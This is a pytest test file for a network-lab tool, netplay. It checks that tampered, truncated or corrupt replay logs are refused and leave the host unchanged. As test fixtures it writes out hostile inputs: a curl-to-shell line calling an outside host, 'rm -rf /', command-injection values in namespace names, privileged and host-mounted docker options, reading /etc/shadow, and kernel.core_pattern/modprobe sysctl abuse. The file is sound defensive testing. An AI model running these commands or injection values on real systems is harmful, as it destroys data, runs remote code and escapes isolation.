"""A log is untrusted input: replay and export refuse a truncated, corrupt or tampered log
with one line naming the problem (the offending step when there is one), and change
nothing on the host.

The checks are pure (netplay.run.logcheck) and tested without root; the tests marked root run
`netplay replay` on bad logs as root and compare the host before and after.
"""

import copy
import json
import shlex
import subprocess

import pytest

from netplay.core.errors import InputError
from netplay.load import builtins
from netplay.model.runtime import with_runtime
from netplay.model.validate import from_dict
from netplay.plan.build import plan
from netplay.plan.steps import Ref
from netplay.run import logcheck
from netplay.run.log import FORMAT, VERSION

from conftest import TEST_IMAGE, snapshot


def log_data(topo):
    return {"format": FORMAT, "version": VERSION, "lab": topo.name, "action": "run",
            "status": "up", "topology": topo.to_dict(),
            "steps": [s.to_dict() for s in plan(topo)], "teardown": []}


LEVELS = log_data(builtins.load("levels"))
HOME = log_data(with_runtime(builtins.load("home"), "docker", TEST_IMAGE))


def index(data, shell):
    """The index of the step whose shell line is `shell`."""
    return next(i for i, s in enumerate(data["steps"]) if s["shell"] == shell)


def tampered(base, edit):
    data = copy.deepcopy(base)
    edit(data)
    return data


def refusal(data, tmp_path):
    """The InputError message for data written as a log file."""
    path = tmp_path / "log.json"
    path.write_text(json.dumps(data))
    with pytest.raises(InputError) as err:
        logcheck.load(str(path))
    message = str(err.value)
    assert "\n" not in message and "\r" not in message
    return message


def set_argv(i, argv):
    def edit(data):
        data["steps"][i]["argv"] = argv
    return edit


def insert_args(i, pos, *args):
    def edit(data):
        data["steps"][i]["argv"][pos:pos] = list(args)
    return edit


def set_undo(i, undo):
    def edit(data):
        data["steps"][i]["undo"] = undo
    return edit


N_LEVELS = len(LEVELS["steps"])
ADD_LEVELA = index(LEVELS, "ip netns add levela")
ADDR_LEVELA = index(LEVELS, "ip -n levela addr add 172.16.1.0/24 brd + dev veth1a")
RUN_LAPTOP = next(i for i, s in enumerate(HOME["steps"])
                  if s["argv"][:2] == ["docker", "run"] and "--name=laptop" in s["argv"])
ATTACH_LAPTOP = index(HOME, 'ip netns attach laptop "$pid_laptop"')
FORWARD = index(HOME, "ip netns exec router sysctl -w net.ipv4.ip_forward=1")

# (id, log, edit, what the message must say): one case per way a log can be bad.
STEP_CASES = [
    ("another-program", LEVELS, set_argv(ADD_LEVELA, ["curl", "http://192.0.2.1/x"]),
     [f"steps[{ADD_LEVELA}]", "'curl'"]),
    ("shell", LEVELS, set_argv(ADD_LEVELA, ["bash", "-c", "touch /tmp/np4-pwned"]),
     [f"steps[{ADD_LEVELA}]", "'bash'"]),
    ("program-in-namespace", LEVELS,
     set_argv(ADD_LEVELA, ["ip", "netns", "exec", "levela", "sh", "-c", "id"]),
     [f"steps[{ADD_LEVELA}]", "'sh' inside namespace levela"]),
    ("docker-in-namespace", LEVELS,
     set_argv(ADD_LEVELA, ["ip", "netns", "exec", "levela", "docker", "ps"]),
     [f"steps[{ADD_LEVELA}]", "'docker' inside namespace levela"]),
    ("name-with-semicolon", LEVELS, set_argv(ADD_LEVELA, ["ip", "netns", "add", "levela;reboot"]),
     [f"steps[{ADD_LEVELA}]", "namespace name 'levela;reboot'"]),
    ("name-with-command-substitution", LEVELS,
     set_argv(ADD_LEVELA, ["ip", "netns", "add", "$(touch /tmp/np4-pwned)"]),
     [f"steps[{ADD_LEVELA}]", "may use only letters"]),
    ("ifname-with-backquote", LEVELS,
     set_argv(ADDR_LEVELA, ["ip", "-n", "levela", "addr", "add", "172.16.1.0/24", "dev", "v`id`"]),
     [f"steps[{ADDR_LEVELA}]", "interface name 'v`id`'"]),
    ("argument-with-space", LEVELS,
     set_argv(ADDR_LEVELA, ["ip", "-n", "levela", "addr", "add", "172.16.1.0/24 x", "dev", "veth1a"]),
     [f"steps[{ADDR_LEVELA}]", "characters netplay never puts"]),
    ("newline-in-argument", LEVELS, set_argv(ADD_LEVELA, ["ip", "netns", "add", "a\nreboot"]),
     [f"steps[{ADD_LEVELA}]", "spans lines"]),
    ("ip-batch", LEVELS, set_argv(ADD_LEVELA, ["ip", "-batch", "/tmp/cmds"]),
     [f"steps[{ADD_LEVELA}]", "ip option '-batch'"]),
    ("undo-runs-rm", LEVELS, set_undo(ADD_LEVELA, ["rm", "-rf", "/"]),
     [f"steps[{ADD_LEVELA}]", "its undo", "rm"]),
    ("undo-runs-another-program", LEVELS, set_undo(ADD_LEVELA, ["shutdown", "now"]),
     [f"steps[{ADD_LEVELA}]", "its undo", "'shutdown'"]),
    ("mkdir-elsewhere", LEVELS, set_argv(0, ["mkdir", "-p", "/etc/cron.d/x"]),
     ["steps[0]", "mkdir only as"]),
    ("sysctl-outside-net", HOME,
     set_argv(FORWARD, ["ip", "netns", "exec", "router", "sysctl", "-w",
                        "kernel.core_pattern=|/tmp/x"]),
     [f"steps[{FORWARD}]"]),
    ("sysctl-modprobe", HOME,
     set_argv(FORWARD, ["ip", "netns", "exec", "router", "sysctl", "-w", "kernel.modprobe=/tmp/x"]),
     [f"steps[{FORWARD}]", "not a net.* setting"]),
    ("iptables-modprobe", HOME,
     set_argv(FORWARD, ["iptables", "--modprobe=/tmp/x", "-L"]),
     [f"steps[{FORWARD}]", "runs a program"]),
    ("docker-privileged", HOME, insert_args(RUN_LAPTOP, 2, "--privileged"),
     [f"steps[{RUN_LAPTOP}]", "'--privileged'"]),
    ("docker-volume", HOME, insert_args(RUN_LAPTOP, 2, "-v", "/:/host"),
     [f"steps[{RUN_LAPTOP}]", "'-v'"]),
    ("docker-host-network", HOME,
     lambda d: d["steps"][RUN_LAPTOP]["argv"].__setitem__(2, "--net=host"),
     [f"steps[{RUN_LAPTOP}]", "'--net=host'"]),
    ("docker-exec-privileged", HOME,
     set_argv(RUN_LAPTOP, ["docker", "exec", "--privileged", "laptop", "sh"]),
     [f"steps[{RUN_LAPTOP}]", "docker exec --privileged"]),
    ("docker-exec-as-root-user", HOME,
     set_argv(RUN_LAPTOP, ["docker", "exec", "-u", "0", "laptop", "sh"]),
     [f"steps[{RUN_LAPTOP}]", "docker exec option '-u'"]),
    ("docker-cp", HOME, set_argv(RUN_LAPTOP, ["docker", "cp", "/etc/shadow", "laptop:/x"]),
     [f"steps[{RUN_LAPTOP}]", "`docker cp`"]),
    ("pid-from-nowhere", HOME,
     set_argv(ATTACH_LAPTOP, ["ip", "netns", "attach", "laptop", {"ref": "pid_nobody"}]),
     [f"steps[{ATTACH_LAPTOP}]", "$pid_nobody"]),
    ("capture-from-other-command", LEVELS,
     lambda d: d["steps"][ADD_LEVELA].__setitem__("capture", "pid_x"),
     [f"steps[{ADD_LEVELA}]", "only `docker inspect` may capture"]),
    ("heading-with-newline", LEVELS,
     lambda d: d["steps"][ADD_LEVELA].__setitem__("phase", "node\nreboot"),
     [f"steps[{ADD_LEVELA}]", "heading"]),
    ("other-host", LEVELS,
     lambda d: d["steps"][ADD_LEVELA].__setitem__("host", "db1.example"),
     [f"steps[{ADD_LEVELA}]", "host 'db1.example'"]),
    ("argument-not-a-string", LEVELS, set_argv(ADD_LEVELA, ["ip", "netns", "add", 7]),
     [f"steps[{ADD_LEVELA}]", "neither a string nor a reference"]),
    ("empty-argv", LEVELS, set_argv(ADD_LEVELA, []),
     [f"steps[{ADD_LEVELA}]", "non-empty 'argv'"]),
]

# Steps that the policy allows one by one but that are not what the topology plans.
PLAN_CASES = [
    ("changed-address", LEVELS,
     set_argv(ADDR_LEVELA, ["ip", "-n", "levela", "addr", "add", "172.16.9.9/24", "brd", "+",
                            "dev", "veth1a"]),
     [f"steps[{ADDR_LEVELA}]", "not what netplay plans", "172.16.1.0/24"]),
    ("extra-step", LEVELS,
     lambda d: d["steps"].append({"argv": ["ip", "netns", "add", "extra"], "phase": "x"}),
     [f"has {N_LEVELS + 1} steps", f"plans {N_LEVELS}", f"steps[{N_LEVELS}]"]),
    ("missing-step", LEVELS, lambda d: d["steps"].pop(),
     [f"has {N_LEVELS - 1} steps", f"plans {N_LEVELS}", f"steps[{N_LEVELS - 1}]", "missing"]),
    ("reordered", LEVELS,
     lambda d: d["steps"].insert(1, d["steps"].pop(ADD_LEVELA + 1)),
     ["steps[1]", "not what netplay plans"]),
    ("undo-dropped", LEVELS, lambda d: d["steps"][ADD_LEVELA].pop("undo"),
     [f"steps[{ADD_LEVELA}]", "undo should be `ip netns delete levela`"]),
    ("heading-changed", LEVELS,
     lambda d: d["steps"][ADD_LEVELA].__setitem__("phase", "node levelz"),
     [f"steps[{ADD_LEVELA}]", "heading should be 'node levela'"]),
    ("other-image-in-steps-only", HOME,
     lambda d: d["steps"][RUN_LAPTOP]["argv"].__setitem__(-3, "alpine"),
     [f"steps[{RUN_LAPTOP}]", "not what netplay plans"]),
]

HEADER_CASES = [
    ("lab-name-with-metacharacters", LEVELS, lambda d: d.__setitem__("lab", "../../etc"),
     ["lab name '../../etc'"]),
    ("lab-other-than-topology", LEVELS, lambda d: d.__setitem__("lab", "home"),
     ["for lab 'home'", "named 'levels'"]),
    ("no-topology", LEVELS, lambda d: d.pop("topology"), ["no \"topology\""]),
    ("topology-name-with-metacharacters", LEVELS,
     lambda d: (d.__setitem__("lab", "lev"), d["topology"].__setitem__("name", "lev;rm -rf /")),
     ["lab name 'lev;rm -rf /'"]),
    ("topology-node-tampered", LEVELS,
     lambda d: d["topology"]["nodes"]["levela"].__setitem__("kind", "vm"),
     ["topology", "unknown kind 'vm'"]),
    ("topology-and-steps-tampered-together", LEVELS,
     lambda d: (d["topology"]["nodes"].__setitem__(
         "x$(id)", d["topology"]["nodes"].pop("levelc")),),
     ["node name 'x$(id)'"]),
    ("future-version", LEVELS, lambda d: d.__setitem__("version", VERSION + 2),
     [f"version {VERSION + 2} is not supported"]),
    ("no-version", LEVELS, lambda d: d.pop("version"), ["version None is not supported"]),
    ("other-format", LEVELS, lambda d: d.__setitem__("format", "terraform-state"),
     ["not a netplay log"]),
    ("steps-not-a-list", LEVELS, lambda d: d.__setitem__("steps", {"0": "ip"}),
     ["no list of steps"]),
]


@pytest.mark.parametrize("base,edit,expected",
                         [c[1:] for c in STEP_CASES + PLAN_CASES + HEADER_CASES],
                         ids=[c[0] for c in STEP_CASES + PLAN_CASES + HEADER_CASES])
def test_tampered_log_is_refused_with_one_line(tmp_path, base, edit, expected):
    message = refusal(tampered(base, edit), tmp_path)
    for part in expected:
        assert part in message, message
    assert message.startswith(str(tmp_path / "log.json"))


def test_truncated_log_is_refused(tmp_path):
    text = json.dumps(LEVELS, indent=1)
    path = tmp_path / "log.json"
    path.write_text(text[: len(text) // 2])
    with pytest.raises(InputError, match="corrupt or truncated"):
        logcheck.load(str(path))


@pytest.mark.parametrize("content", [b"", b"\x00\xff\xfe garbage", b"[1, 2, 3]", b"null"],
                         ids=["empty", "binary", "a-list", "null"])
def test_corrupt_log_is_refused(tmp_path, content):
    path = tmp_path / "log.json"
    path.write_bytes(content)
    with pytest.raises(InputError, match="not a netplay log"):
        logcheck.load(str(path))


def test_missing_log_is_refused(tmp_path):
    with pytest.raises(InputError, match="cannot read the log"):
        logcheck.load(str(tmp_path / "nothing.json"))


@pytest.mark.parametrize("name", builtins.names())
@pytest.mark.parametrize("runtime", ["netns", "docker"])
def test_everything_netplay_plans_passes_the_policy(tmp_path, name, runtime):
    topo = with_runtime(builtins.load(name), runtime, TEST_IMAGE)
    checked = logcheck.check(log_data(topo), "log.json")
    assert checked.steps == plan(topo)


def test_a_log_with_results_and_teardown_entries_passes(tmp_path):
    """What a real run adds (results, captured values, teardown) is allowed and ignored."""
    data = copy.deepcopy(HOME)
    for step in data["steps"]:
        step["result"] = {"rc": 0, "stderr": "", "duration": 0.01, "time": "t"}
        if "capture" in step:
            step["result"]["value"] = "1"  # a PID of the recording host: never used
    data["teardown"] = [{"argv": ["rm", "-rf", "/"], "rc": 0}]  # what happened; never run
    assert logcheck.check(data, "log.json").steps == plan(from_dict(HOME["topology"]))


def test_container_command_and_environment_may_hold_any_one_line_text():
    """A container's cmd and env are the topology's own (run inside the container): any
    one-line text, as in a topology file, shell-quoted on export."""
    topo = from_dict({"name": "np4env", "image": TEST_IMAGE, "nodes": {
        "cc": {"kind": "docker", "env": {"X": "a b;$(c)"}, "cmd": ["sh", "-c", "echo 'hi'; sleep 9"]}}})
    assert logcheck.check(log_data(topo), "log.json").steps == plan(topo)


# --- on the host: a bad log changes nothing -------------------------------------------------

BAD_FOR_HOST = {
    "another-program": tampered(LEVELS, set_argv(ADD_LEVELA, ["touch", "CANARY"])),
    "shell-metacharacters": tampered(LEVELS, set_argv(ADD_LEVELA,
                                                      ["ip", "netns", "add", "x;touch CANARY"])),
    "in-namespace-program": tampered(LEVELS, set_argv(
        ADD_LEVELA, ["ip", "netns", "exec", "levela", "touch", "CANARY"])),
    "last-step-tampered": tampered(LEVELS, set_argv(len(LEVELS["steps"]) - 1,
                                                    ["sh", "-c", "touch CANARY"])),
    "plan-mismatch": tampered(LEVELS, set_argv(ADDR_LEVELA, [
        "ip", "-n", "levela", "addr", "add", "172.16.9.9/24", "brd", "+", "dev", "veth1a"])),
}


def _with_canary(data, canary):
    text = json.dumps(data).replace("CANARY", str(canary))
    return text


@pytest.mark.root
@pytest.mark.parametrize("case", sorted(BAD_FOR_HOST) + ["truncated", "corrupt"])
@pytest.mark.parametrize("undo", [False, True], ids=["replay", "undo"])
def test_bad_log_changes_nothing_on_the_host(tmp_path, netplay, state_dir, case, undo):
    canary = tmp_path / "canary"
    if case == "truncated":
        full = json.dumps(LEVELS)
        text = full[: len(full) * 2 // 3]
    elif case == "corrupt":
        text = json.dumps(LEVELS).replace('"steps"', '"steps" "', 1)
    else:
        text = _with_canary(BAD_FOR_HOST[case], canary)
    log = tmp_path / "bad.json"
    log.write_text(text)
    before = snapshot()
    result = netplay("replay", *(["--undo"] if undo else []), str(log))
    after = snapshot()
    assert result.rc == 2, result
    assert after == before
    assert not canary.exists()
    lines = result.err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("netplay: error: "), result
    assert "Traceback" not in result.err
    assert not (tmp_path / "state" / "labs" / "levels" / "log.json").exists()
    if case in ("another-program", "shell-metacharacters", "in-namespace-program"):
        assert f"steps[{ADD_LEVELA}]" in lines[0]


def test_the_documented_example_is_a_log_whose_steps_pass_the_policy(tmp_path):
    import re
    from pathlib import Path

    from netplay.run.log import read

    doc = (Path(__file__).resolve().parent.parent / "docs" / "log-format.md").read_text()
    example = re.search(r"```json\n(.*?)```", doc, re.S).group(1)
    path = tmp_path / "example.json"
    path.write_text(example)
    data = read(str(path))
    steps = logcheck.checked_steps(data["steps"], str(path))
    assert steps[3].capture == "pid_web" and steps[4].refs() == ["pid_web"]
    from_dict(data["topology"])
    for field in data:
        assert f"| `{field}` |" in doc, f"header field {field} is not documented"
    for step in data["steps"]:
        for field in list(step) + list(step.get("result", {})):
            assert f"| `{field}` |" in doc, f"step field {field} is not documented"


# --- node commands: a node's own `exec` list, run only with --allow-exec ---------------------

EXEC = from_dict({"name": "np13exec", "image": TEST_IMAGE, "nodes": {
    "np13e-a": {"exec": [["ip", "-n", "np13-other", "link", "set", "lo", "down"],
                         ["sh", "-c", "echo hi > /tmp/np13-x"]]},
    "np13e-c": {"kind": "docker", "exec": [["ip", "netns", "delete", "np13-other"]]}}})


def test_node_commands_pass_the_checks_marked_as_node_commands():
    """A node's `exec` commands are what its topology asks for, so the checks pass them,
    any program; the plan marks them, whatever they run: an allowed program naming another
    namespace (`ip -n OTHER`) as much as a shell, in a namespace or in a container."""
    checked = logcheck.check(log_data(EXEC), "log.json")
    n = len(checked.steps)
    assert [(i, s.argv) for i, s in checked.node_commands()] == [
        (n - 3, ["ip", "netns", "exec", "np13e-a", "ip", "-n", "np13-other", "link", "set",
                 "lo", "down"]),
        (n - 2, ["ip", "netns", "exec", "np13e-a", "sh", "-c", "echo hi > /tmp/np13-x"]),
        (n - 1, ["nsenter", "--target", Ref("pid_np13e_c"), "--all", "ip", "netns", "delete",
                 "np13-other"]),
    ]
    assert logcheck.check(LEVELS, "log.json").node_commands() == []


def test_a_log_with_node_commands_is_refused_in_one_line_naming_the_first_and_the_flag():
    checked = logcheck.check(log_data(EXEC), "log.json")
    first = len(checked.steps) - 3
    for doing in ("replay runs", "export writes"):
        with pytest.raises(InputError) as err:
            logcheck.refuse_node_commands(checked, doing)
        assert str(err.value) == (
            f"log.json: steps[{first}] runs a node command (`ip netns exec np13e-a ip -n "
            "np13-other link set lo down`), which can reach outside the lab; "
            f"{doing} node commands only with --allow-exec")
    logcheck.refuse_node_commands(logcheck.check(HOME, "log.json"), "replay runs")  # none


def test_a_step_dressed_as_a_node_command_is_still_refused(tmp_path):
    """The heading `exec NODE` lets any program through the per-argument policy only for
    the re-plan to judge: a log whose topology has no such command is refused."""
    def forge(data):
        data["steps"][ADD_LEVELA].update(argv=["ip", "netns", "exec", "levela", "sh", "-c", "id"],
                                         phase="exec levela")
        data["steps"][ADD_LEVELA].pop("undo")
    message = refusal(tampered(LEVELS, forge), tmp_path)
    assert f"steps[{ADD_LEVELA}] `ip netns exec levela sh -c id` is not what netplay plans" \
        in message
    spans = refusal(tampered(log_data(EXEC), lambda d: d["steps"][-2]["argv"].__setitem__(
        -1, "echo hi\nreboot")), tmp_path)
    assert f"steps[{len(plan(EXEC)) - 2}]" in spans and "spans lines" in spans


def test_replay_announces_each_node_command_as_the_runner_is_about_to_run_it(tmp_path):
    """The runner knows which steps are node commands: it announces each (resolved) just
    before it runs, and no other step, even one whose command looks the same; -v's echo
    still sees every command it runs alone."""
    from netplay.machine.fake import FakeMachine
    from netplay.run.log import StepLog
    from netplay.run.runner import Runner

    topo = from_dict({"name": "np13ann", "nodes": {
        "np13n-a": {"role": "router", "interfaces": {"e0": {"addresses": ["10.213.0.1/24"]}},
                    "exec": [["sysctl", "-w", "net.ipv4.ip_forward=1"]]},
        "np13n-b": {"interfaces": {"e0": {"addresses": ["10.213.0.2/24"]}},
                    "exec": [["ip", "-n", "np13-other", "link", "set", "lo", "down"]]}},
        "links": [{"endpoints": ["np13n-a:e0", "np13n-b:e0"]}]})
    steps = plan(topo)
    said, echoed = [], []
    log = StepLog.create(str(tmp_path / "log.json"), topo.name, {}, steps)
    Runner(FakeMachine(), echo=echoed.append, announce=said.append).apply(log, steps)
    assert said == [["ip", "netns", "exec", "np13n-a", "sysctl", "-w", "net.ipv4.ip_forward=1"],
                    ["ip", "netns", "exec", "np13n-b", "ip", "-n", "np13-other", "link", "set",
                     "lo", "down"]]
    assert all(argv in echoed for argv in said)


def _exec_log(tmp_path, command):
    topo = from_dict({"name": "np13x", "nodes": {"np13x-a": {"exec": [command]}}})
    path = tmp_path / "np13x.json"
    path.write_text(json.dumps(log_data(topo)))
    return str(path), len(plan(topo)) - 1


def test_export_writes_node_commands_only_with_allow_exec(tmp_path, netplay):
    log, i = _exec_log(tmp_path, ["sh", "-c", "echo hi > /tmp/np13-x"])
    out = tmp_path / "build.sh"
    result = netplay("export", log, "-o", str(out))
    assert result.rc == 2 and not out.exists(), result
    assert result.err == (f"netplay: error: {log}: steps[{i}] runs a node command (`ip netns exec "
                          "np13x-a sh -c 'echo hi > /tmp/np13-x'`), which can reach outside the "
                          "lab; export writes node commands only with --allow-exec\n")
    result = netplay("export", "--allow-exec", log)
    assert result.rc == 0, result
    assert result.out.endswith("# exec np13x-a\n"
                               "echo 'node command: ip netns exec np13x-a sh -c '\"'\"'echo hi > "
                               "/tmp/np13-x'\"'\"'' >&2\n"
                               "ip netns exec np13x-a sh -c 'echo hi > /tmp/np13-x'\n")
    teardown = netplay("export", "--teardown", log)  # it runs no node command
    assert teardown.rc == 0 and "np13-x" not in teardown.out, teardown


def test_replay_dry_run_shows_node_commands_and_says_they_need_allow_exec(tmp_path, netplay):
    log, i = _exec_log(tmp_path, ["sh", "-c", "echo hi > /tmp/np13-x"])
    result = netplay("replay", "--dry-run", log)
    assert result.rc == 0, result
    assert result.out.endswith("# exec np13x-a\nip netns exec np13x-a sh -c 'echo hi > "
                               "/tmp/np13-x'\n")
    assert result.err == (f"netplay: {log}: steps[{i}] run nodes' own commands, which can reach "
                          "outside the lab; replay runs them only with --allow-exec\n")
    assert netplay("replay", "--dry-run", "--allow-exec", log).err == ""


@pytest.mark.root
@pytest.mark.parametrize("target", ["this-hosts-file", "another-namespace"])
def test_node_exec_commands_are_not_replayed_from_a_log_without_allow_exec(
        tmp_path, netplay, state_dir, target):
    """A node's command reaches outside its lab: a file of this host, or a namespace that is
    not the lab's (`ip -n OTHER`, a program a log may otherwise run). replay refuses the log
    in one line, exit 2, the host unchanged; with --allow-exec it runs it, saying so first.
    replay --undo runs no node command and needs no flag."""
    canary = tmp_path / "canary"
    command = {"this-hosts-file": ["sh", "-c", f"echo hi > {canary}"],
               "another-namespace": ["ip", "-n", "np13-victim", "link", "set", "lo", "alias",
                                     "np13-touched"]}[target]
    log, i = _exec_log(tmp_path, command)
    subprocess.run(["ip", "netns", "add", "np13-victim"], check=True)
    try:
        before = snapshot()
        result = netplay("replay", log)
        assert result.rc == 2, result
        assert result.err.count("\n") == 1 and f"steps[{i}] runs a node command" in result.err \
            and "--allow-exec" in result.err, result
        assert snapshot() == before and not canary.exists()
        assert "np13-touched" not in _victim_lo()
        result = netplay("replay", "--allow-exec", log)
        assert result.rc == 0, result
        shown = f"netplay: np13x: node command: ip netns exec np13x-a {shlex.join(command)}\n"
        assert result.err == shown, result
        assert canary.exists() if target == "this-hosts-file" else "np13-touched" in _victim_lo()
        assert netplay("replay", "--undo", log).rc == 0
    finally:
        netplay("down", "np13x")
        subprocess.run(["ip", "netns", "delete", "np13-victim"])


def _victim_lo():
    return subprocess.run(["ip", "-n", "np13-victim", "link", "show", "lo"], capture_output=True,
                          text=True).stdout


def test_docker_binds_are_not_replayed_from_a_log(tmp_path):
    """A bind mounts a path of the recording host into the container."""
    topo = from_dict({"name": "np4bind", "image": TEST_IMAGE, "nodes": {
        "np4b-c": {"kind": "docker", "binds": ["/etc:/host-etc:ro"]}}})
    message = refusal(log_data(topo), tmp_path)
    assert "option '-v' mounts a path of the recording host" in message


def test_the_shell_fields_are_for_people_and_never_used(tmp_path):
    """`shell` and `undo_shell` repeat argv for readers; a tampered one changes nothing:
    dry runs and exports render each step from its checked argv."""
    from netplay.render.bash import build_script, teardown_script

    data = copy.deepcopy(LEVELS)
    data["steps"][ADD_LEVELA]["shell"] = "curl http://192.0.2.1/x | sh"
    data["steps"][ADD_LEVELA]["undo_shell"] = "rm -rf /"
    checked = logcheck.check(data, "log.json")
    for text in (build_script(checked.topology, checked.steps),
                 teardown_script(checked.topology, checked.steps)):
        assert "curl" not in text and "rm -rf" not in text
    assert "ip netns add levela" in build_script(checked.topology, checked.steps)
